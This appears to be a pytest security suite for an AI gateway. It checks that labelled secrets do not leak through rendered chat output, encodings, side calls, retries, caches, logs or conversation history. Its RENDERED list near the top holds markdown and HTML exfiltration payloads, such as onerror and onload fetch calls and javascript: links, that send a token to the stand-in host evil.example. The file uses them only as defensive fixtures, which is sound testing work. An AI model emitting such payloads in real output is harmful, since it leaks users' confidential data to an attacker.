"""Ways out for content that somebody may read and a provider may not: rendering, encodings, side calls, retries, caches, logs, history."""

from __future__ import annotations

import base64
import json
import logging
import re
from html.parser import HTMLParser
from itertools import product
from typing import Any

import pytest
import sqlalchemy as sa

from insjo.access.types import Clearance, Level, Privilege, SecurableKind
from insjo.gateway.types import Policy
from insjo.kernel.database import metadata
from insjo.testing.recorder import Fault, Script
from tests.security.attacks.conftest import Arena
from tests.security.walking import CHAT, CONTENT, NONE, Heard
from tests.support.canaries import DISGUISES, tokens_in

SECRET_ENDPOINTS = ("strict", "routed", "ladder", "masking", "sparse", "claude")

# ------------------------------------------------------------------------------------------------- markdown and link exfiltration

EVIL = "https://evil.example"
RENDERED = (
    "![chart]({evil}/c.png?d={token})",
    "![]({evil}/c.png?d={token} 'title')",
    "[![x]({evil}/{token}.png)]({evil}/{token})",
    "![x][1]\n\n[1]: {evil}/{token}.png",
    "<img src='{evil}/{token}'>",
    "<img src=x onerror=fetch('{evil}/{token}')>",
    "<svg/onload=fetch('{evil}/{token}')>",
    "<iframe src={evil}/{token}></iframe>",
    "<link rel=stylesheet href={evil}/{token}>",
    "<style>@import '{evil}/{token}';</style>",
    "<div style='background:url({evil}/{token})'>x</div>",
    "<video poster={evil}/{token} src={evil}></video>",
    "<object data={evil}/{token}></object>",
    "<meta http-equiv=refresh content='0;url={evil}/{token}'>",
    "<form action={evil}/{token}><input name=q value={token}></form>",
    "<base href={evil}/>\n[go](/{token})",
    "<a href='{evil}/{token}' ping='{evil}/{token}'>ok</a>",
    "[Sign in again]({evil}/{token})",
    "[https://insjo.example]({evil}/{token})",
    "[x](javascript:fetch('{evil}/{token}'))",
    "[x](JaVaScRiPt:alert`{token}`)",
    "[x](data:text/html;base64,{base64})",
    "[x](vbscript:{token})",
    "[x](//evil.example/{token})",
    "[x](/\\evil.example/{token})",
    "<{evil}/{token}>",
    "{evil}/{token}",
    "```html\n<img src={evil}/{token}>\n```",
    "`<img src={evil}/{token}>`",
    "| a |\n|---|\n| ![x]({evil}/{token}) |",
    "> ![x]({evil}/{token})",
    "# ![x]({evil}/{token})",
    "- [x]({evil}/{token})",
    "&lt;img src={evil}/{token}&gt;",
    "<!--><img src={evil}/{token}>-->",
    "<math><mtext></mtext><img src={evil}/{token}></math>",
    "[x](<{evil}/{token}>)",
    "[x]({evil}/\u202e{token})",
    "[1]: {evil}/{token}\n\nAs [1] says",
    "![x](http://[::1]/{token})",
)
LOADING = {
    "img",
    "iframe",
    "script",
    "link",
    "style",
    "object",
    "embed",
    "video",
    "audio",
    "source",
    "svg",
    "form",
    "input",
    "meta",
    "base",
}


class Shown(HTMLParser):
    """Elements that load, attributes that load or run, and links with what a reader sees of them."""

    def __init__(self) -> None:
        super().__init__()
        self.loading: list[str] = []
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.loading += [tag] if tag in LOADING else []
        for name, value in attrs:
            if name.startswith("on") or name in {"src", "srcset", "style", "background", "poster", "action", "formaction", "ping", "data"}:
                self.loading.append(f"{tag}.{name}")
            if name == "href":
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("form", RENDERED)
def test_markdown_and_links(arena: Arena, form: str) -> None:
    token = arena.token("cell", "hr")
    said = form.format(evil=EVIL, token=token, base64=base64.b64encode(token.encode()).decode())
    arena.model_says(said)
    answer = arena.converse("anna", "What is in the codes?", endpoint="insjo-chat")
    assert answer["status"] == 200, answer
    shown = Shown()
    shown.feed(answer["message"]["html"])
    assert not shown.loading, answer["message"]["html"]
    for link in shown.links:
        assert link.startswith(("http://", "https://", "mailto:", "/", "#")), link
        assert not link.startswith("/\\"), link
        if link.startswith(("http", "//")):
            assert EVIL.removeprefix("https://") in shown.text or "[::1]" in shown.text, "a link that leads away shows where it leads"
    page = arena.here.call("anna", "GET", f"/chat/{answer['conversation']['id']}")
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy or "default-src 'self'" in policy
    assert not re.search(r"(img|connect|form-action|frame|style|script|font|media)-?\w* [^;]*(https?:|\*)", policy), policy
    assert arena.here.call("anna", "DELETE", f"/api/insjo/v1/conversations/{answer['conversation']['id']}").status == 200


# --------------------------------------------------------------------------------------------------------------------- encodings


@pytest.mark.parametrize("name", DISGUISES)
def test_encodings(arena: Arena, name: str) -> None:
    for place in ("hr", "board"):
        said = f"Please look at {DISGUISES[name](arena.token('cell', place))} now"
        call = {"id": "1", "type": "function", "function": {"name": "f", "arguments": json.dumps({"q": [said]})}}
        for endpoint in SECRET_ENDPOINTS:
            arena.chat("cia", endpoint, said)
            arena.chat("cia", endpoint, [{"role": "user", "content": "hi"}, {"role": "assistant", "content": None, "tool_calls": [call]}])
        arena.here.call(
            "cia", "POST", "/v1/messages", {"model": "claude", "max_tokens": 9, "messages": [{"role": "user", "content": said}]}
        )
        arena.here.call("cia", "POST", "/v1/responses", {"model": "strict", "input": said, "instructions": said})
        arena.here.call("cia", "POST", "/v1/embeddings", {"model": "vectors", "input": [said]})
        arena.here.call("cia", "POST", "/serving-endpoints/strict/invocations", {"messages": [{"role": "user", "content": said}]})
    arena.nothing_left()


# -------------------------------------------------------------------------------------------------------------------- side calls


@pytest.mark.parametrize("way", ["title", "file", "search", "index", "sql", "answer", "agent", "similarity"])
def test_side_calls(arena: Arena, way: str) -> None:
    here, token, document = arena.here, arena.token("cell", "hr"), arena.token("document", "hr")
    match way:
        case "title":
            made = arena.converse("anna", f"{token} is what I want to talk about, at length and with a title", endpoint="strict")
            begun = made.get("conversation", {}).get("id") or made.get("details", {}).get("conversation_id")
            if begun:
                arena.converse("anna", "Go on", str(begun), endpoint="strict")
        case "file":
            boundary = "insjoboundary"
            parts = [
                f'--{boundary}\r\nContent-Disposition: form-data; name="text"\r\n\r\nSummarise this',
                f'--{boundary}\r\nContent-Disposition: form-data; name="endpoint"\r\n\r\nstrict',
                f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="a.md"\r\n\r\n{token} is it',
                f"--{boundary}--\r\n",
            ]
            kind = f"multipart/form-data; boundary={boundary}"
            path = "/api/insjo/v1/conversations/new/messages"
            here.call("anna", "POST", path, raw="\r\n".join(parts).encode(), accept="application/json", content_type=kind)
        case "search" | "index":
            here.must(f"CREATE VOLUME main.desk.{way}")
            here.write(f"/Volumes/main/desk/{way}/a.md", b"# Nothing\n\nNothing to see here, at all.\n")
            sources = [f"/Volumes/main/desk/{way}"] if way == "search" else [f"/Volumes/main/desk/{way}", "/Volumes/main/hr/docs"]
            indexes = here.services.retrieval.indexes
            indexes.create(here.admin, f"main.desk.{way}_away", sources=sources, embedding_endpoint="vectors")
            here.services.jobs.wait(here.admin, indexes.sync(here.admin, f"main.desk.{way}_away").id, 60)
            here.allow("anna", SecurableKind.INDEX, f"main.desk.{way}_away", Privilege.SELECT)
            body = {"query": f"what about {token}", "indexes": [f"main.desk.{way}_away"]}
            arena.nothing_told("anna", here.call("anna", "POST", "/api/insjo/v1/search", body))
            here.call("boss", "DELETE", f"/api/insjo/v1/indexes/main.desk.{way}_away")
        case "sql":
            for asked in ("code", "'What is ' || code", "(SELECT max(code) FROM main.hr.codes)"):
                arena.sql("anna", f"SELECT ai_query('strict', {asked}) FROM main.hr.codes")
            arena.sql("anna", "SELECT ai_query('strict', 'constant') FROM main.hr.codes WHERE code LIKE 'kx%'")
        case "answer":
            for endpoint in SECRET_ENDPOINTS:
                body = {"question": "What is the order code of hr?", "indexes": ["main.pub.handbook"], "endpoint": endpoint}
                here.call("anna", "POST", "/api/insjo/v1/answers", body)
        case "agent":
            agents = here.services.agents.agents
            examples = [(f"Who has {token}?", f"SELECT n FROM main.hr.codes WHERE code = '{token}'")]
            tables = ["main.hr.codes"]
            agents.create(here.admin, "main.desk.aside", endpoint="strict", tables=tables, examples=examples, instructions=document)
            here.allow("anna", SecurableKind.AGENT, "main.desk.aside", Privilege.EXECUTE)
            for question in ("Who is the strangest?", f"Who has {token}?", "How many codes are there?"):
                here.call("anna", "POST", "/api/insjo/v1/agents/main.desk.aside/run", {"question": question})
            agents.delete(here.admin, "main.desk.aside")
        case _:
            arena.sql("anna", f"SELECT ai_similarity('{token}', 'b'), ai_classify('{token}', array('a', 'b')), ai_summarize('{token}')")
    arena.nothing_left()


# ------------------------------------------------------------------------------------------------------------- fallback and retry


FAULTS = [Fault.STATUS, Fault.RESET, Fault.RESET_MID_STREAM, Fault.GARBAGE, Fault.NO_JSON, Fault.NO_DONE, Fault.REDIRECT, Fault.EXTRA]


@pytest.mark.parametrize(("fault", "stream"), list(product(FAULTS, [False, True])))
def test_fallback_and_retry(arena: Arena, fault: Fault, stream: bool) -> None:  # A parameter of the test.
    for status in (429, 500) if fault is Fault.STATUS else (500,):
        for name in ("firm", "vault"):
            arena.here.outside[name].script.extend([Script(fault=fault, status=status)] * 3)
        for endpoint, place in (("ladder", "hr"), ("narrow", "hr"), ("narrow", "board"), ("ladder", "board"), ("onward", "hr")):
            arena.chat("cia", endpoint, f"Who is {arena.token('cell', place)}?", stream=stream)
    assert set(arena.received()) <= {"firm", "vault"}
    arena.nothing_left()


# ------------------------------------------------------------------------------------------------------------------------- caches


@pytest.mark.parametrize("way", ["rows", "chat", "vectors", "model functions", "files", "search"])
def test_caches(arena: Arena, way: str) -> None:
    here, token = arena.here, arena.token("masked", "sales")
    if way == "rows":
        for _ in range(3):
            text = "SELECT secret_code, name FROM main.sales.clients ORDER BY n"
            assert token in arena.sql("cia", text).text
            arena.nothing_told("bo", arena.sql("bo", text))
    elif way == "chat":
        for _ in range(3):
            said = f"Tell me of {arena.token('cell', 'hr')}"
            assert arena.chat("anna", "routed", said, temperature=0).status == 200
            arena.chat("bo", "strict", said, temperature=0)
            arena.chat("anna", "strict", said, temperature=0)
    elif way == "vectors":
        for _ in range(2):
            for who in ("anna", "bo"):
                here.call(who, "POST", "/v1/embeddings", {"model": "vectors", "input": arena.token("cell", "hr")})
    elif way == "model functions":
        for _ in range(2):
            assert arena.state("anna", "SELECT ai_query('insjo-chat', code) FROM main.hr.codes") == "SUCCEEDED"
            arena.nothing_told("bo", arena.sql("bo", "SELECT ai_query('insjo-chat', code) FROM main.hr.codes"))
    elif way == "files":
        path = "/api/2.0/fs/files/Volumes/main/hr/docs/order_0.md"
        told = here.call("anna", "GET", path)
        assert told.status == 200
        tag = told.headers.get("etag", '"x"')
        again = here.call("bo", "GET", path, if_none_match=tag)
        assert again.status == 404
        assert here.call("bo", "HEAD", path, if_none_match=tag).status == 404
    else:
        body = {"query": "order code for travel", "indexes": ["main.pub.handbook"], "k": 12}
        for who in ("cia", "dan", "anna", "bo", "cia", "dan"):
            arena.nothing_told(who, here.call(who, "POST", "/api/insjo/v1/search", body))
    arena.nothing_left()


def test_caches_know_the_clearance(arena: Arena) -> None:
    here = arena.here
    clearances, said = here.services.access.clearances, f"Tell me of {arena.token('cell', 'hr')}, again"
    here.endpoint("lent", here.served("firm", Level.CONFIDENTIAL))
    here.allow("anna", SecurableKind.ENDPOINT, "lent", Privilege.EXECUTE)
    assert arena.chat("anna", "lent", said, temperature=0).status == 200
    clearances.set(here.admin, Clearance("served_model:lent/firm", Level.INTERNAL, NONE, "any", keeps=False))
    before = len(here.outside["firm"].requests)
    assert arena.chat("anna", "lent", said, temperature=0).status == 403, "an answer from before tells what may not be told now"
    assert len(here.outside["firm"].requests) == before
    here.services.gateway.endpoints.delete(here.admin, "lent")


@pytest.mark.parametrize("way", ["person", "clearance", "right", "label"])
def test_kept_answers_are_given_to_nobody_who_may_not_have_them(arena: Arena, way: str) -> None:
    here, name = arena.here, f"kept_{way}"
    here.endpoint(name, here.served("firm", Level.CONFIDENTIAL), policy=Policy("block", cache_s=3600))
    for who in ("anna", "bo"):
        here.allow(who, SecurableKind.ENDPOINT, name, Privilege.EXECUTE)
    said, firm = f"Tell me of {arena.token('cell', 'hr')} and late-{way}-55129-x77", here.outside["firm"]
    first, second = (arena.chat("anna", name, said, temperature=0) for _ in range(2))
    assert (first.status, second.headers["x-insjo-route"].split(";")[0]) == (200, "cached")
    before = len(firm.requests)
    if way == "person":
        firm.default = Script(text="said to bo alone")
        assert "said to bo alone" in arena.chat("bo", name, said, temperature=0).text
    elif way == "clearance":
        lowered = Clearance(f"served_model:{name}/firm", Level.INTERNAL, NONE, "any", keeps=False)
        here.services.access.clearances.set(here.admin, lowered)
        assert arena.chat("anna", name, said, temperature=0).status == 403
    elif way == "right":
        here.refuse("anna", SecurableKind.ENDPOINT, name, Privilege.EXECUTE)
        assert arena.chat("anna", name, said, temperature=0).status == 404
    else:
        here.must(f"CREATE TABLE main.board.late_{way} AS SELECT 'late-{way}-55129-x77' AS code")
        here.recognised()
        assert arena.chat("anna", name, said, temperature=0).status == 403, "the label is the one that the content has now"
        here.must(f"DROP TABLE main.board.late_{way}")
    assert len(firm.requests) == before + (way == "person")
    here.services.gateway.endpoints.delete(here.admin, name)


# --------------------------------------------------------------------------------------------------------------- logs and traces


@pytest.mark.parametrize("way", ["sql", "chat", "files", "agent", "broken"])
def test_logs_and_traces(arena: Arena, way: str) -> None:
    here, cells = arena.here, arena.world.of("cell", "document", "masked", "filtered")
    root, heard = logging.getLogger(), Heard()
    root.addHandler(heard)
    try:
        if way == "sql":
            for text in ("raise_error(code)", "cast(code AS INT)", "1 / (n - n) + length(code)", "assert_true(false, code)"):
                arena.sql("anna", f"SELECT {text} FROM main.hr.codes")
        elif way == "chat":
            for endpoint in CHAT:
                arena.chat("anna", endpoint, arena.token("cell", "hr"))
        elif way == "files":
            here.call("anna", "GET", "/api/2.0/fs/files/Volumes/main/hr/docs/order_0.md")
            here.call("anna", "POST", "/api/insjo/v1/search", {"query": arena.token("document", "hr"), "indexes": ["main.pub.handbook"]})
        elif way == "agent":
            here.call("anna", "POST", "/api/insjo/v1/agents/main.hr.desk/run", {"question": "Show all codes"})
        else:
            for fault in (Fault.GARBAGE, Fault.NO_JSON, Fault.STATUS, Fault.RESET):
                here.inside.script.append(Script(fault=fault, status=400))
                arena.chat("anna", "insjo-chat", arena.token("cell", "hr"))
    finally:
        root.removeHandler(heard)
    assert not [line for line in heard.lines if tokens_in(line) & set(cells)]
    here.services.gateway.usage.flush()
    here.services.access.audit.flush()
    own = {*CONTENT, "agents_agents"}
    with here.services.database.read() as connection:
        for table in metadata.sorted_tables:
            if table.name not in own:
                assert not tokens_in(repr(connection.execute(sa.select(table)).all()), deep=False) & set(cells), table.name
    for path in ("/metrics", "/api/insjo/v1/usage", "/api/insjo/v1/audit"):
        assert not tokens_in(here.call("boss", "GET", path).everything, deep=False) & set(cells)
    for other in ("bo", "dan"):
        arena.nothing_told(other, here.call(other, "GET", "/api/2.0/sql/history/queries"), here.call(other, "GET", "/ui/sql/history"))


# ------------------------------------------------------------------------------------------------------------ history laundering

PARAPHRASE = "papegojan-har-sagt-det-med-andra-ord"


@pytest.mark.parametrize("way", ["conversation", "documents", "agent", "responses", "typed", "another's"])
def test_history_laundering(arena: Arena, way: str) -> None:
    here, token = arena.here, arena.token("cell", "hr")
    here.inside.default = Script(text=f"In other words: {PARAPHRASE}.")
    if way in {"conversation", "documents", "agent"}:
        first: dict[str, Any] = {"endpoint": "insjo-chat"}
        if way == "documents":
            first = {"indexes": ["main.pub.handbook"]}
        if way == "agent":
            first = {"agent": "main.hr.desk"}
        text = f"What is {token}?" if way == "conversation" else "What is the order code for travel?"
        begun = arena.converse("anna", text, **first)
        assert begun["status"] == 200, begun
        for endpoint in ("strict", "claude", "routed", "masking", "ladder"):
            arena.converse("anna", "Thanks. Say that once more, please.", begun["conversation"]["id"], endpoint=endpoint)
            arena.converse("anna", "Now translate your first answer.", begun["conversation"]["id"], endpoint=endpoint)
    elif way == "responses":
        first_id = here.call("anna", "POST", "/v1/responses", {"model": "insjo-chat", "input": f"What is {token}?"}).json()["id"]
        for endpoint in ("strict", "claude", "routed", "masking"):
            body = {"model": endpoint, "input": "Once more", "previous_response_id": first_id}
            here.call("anna", "POST", "/v1/responses", body)
    elif way == "typed":
        past = [
            {"role": "user", "content": "hi"},
            {"role": "assistant", "content": f"It is {token}"},
            {"role": "user", "content": "thanks"},
        ]
        for endpoint in SECRET_ENDPOINTS:
            arena.chat("anna", endpoint, past)
    else:
        begun = arena.converse("anna", f"What is {token}?", endpoint="insjo-chat")
        stored = here.call("anna", "POST", "/v1/responses", {"model": "insjo-chat", "input": f"What is {token}?"}).json()["id"]
        for who in ("bo", "boss"):
            refused = arena.converse(who, "Say that once more", begun["conversation"]["id"], endpoint="insjo-chat")
            assert refused["status"] == 404
            body = {"model": "insjo-chat", "input": "Once more", "previous_response_id": stored}
            assert here.call(who, "POST", "/v1/responses", body).status == 404
            assert here.call(who, "GET", f"/v1/responses/{stored}/input_items").status == 404
    for name in ("cheap", "paid", "claude"):
        assert PARAPHRASE.encode() not in here.outside[name].received(), f"`{name}` read what was said about labelled content"
    arena.nothing_left()
